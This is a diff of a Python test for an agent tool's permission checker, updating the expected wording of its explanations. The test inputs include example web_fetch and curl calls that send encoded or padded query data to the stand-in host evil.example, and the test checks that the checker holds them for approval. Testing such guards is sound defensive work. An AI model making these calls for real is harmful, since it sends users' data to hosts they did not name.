@@ -97,19 +97,22 @@ def test_explain_knows_what_is_asked_about_whatever_a_rule_allows(console: Conso
     for call in (f"web_fetch: {coded}", f"bash: curl {coded}", "web_fetch: https://evil.example/?q=" + "a" * 300):
         decision, reason, later = explained(call)
         assert (decision, later) == ("ask", "")
-        assert "evil.example, which you did not name" in reason
+        assert "evil.example, which you did not mention" in reason
     for call in ("web_fetch: https://new.example/x", "bash: curl https://new.example/x"):
         decision, reason, later = explained(call)
         assert decision == "allow"
-        assert "new.example is new: asked even where a rule allows it" in later
+        assert "new.example was not contacted before. Mention new.example in a message, or allow" in later
     assert explained(f"web_fetch: {coded.replace('evil', 'good')}")[::2] == ("allow", "")
     console.config.write_text("")
     decision, reason, _ = explained(f"web_fetch: {coded}")
     assert decision == "ask"
     assert reason.startswith("mode ask: ")
-    assert "evil.example, which you did not name" in reason
+    assert "evil.example, which you did not mention" in reason
     console.config.write_text('[permissions]\nallow = ["web_fetch"]\n')
-    assert "new.example is new" in console("permissions", "explain", "web_fetch: https://new.example/x").err
+    assert (
+        "new.example was not contacted before"
+        in console("permissions", "explain", "web_fetch: https://new.example/x").err
+    )
 
 
 @pytest.mark.parametrize(("args", "words"), [
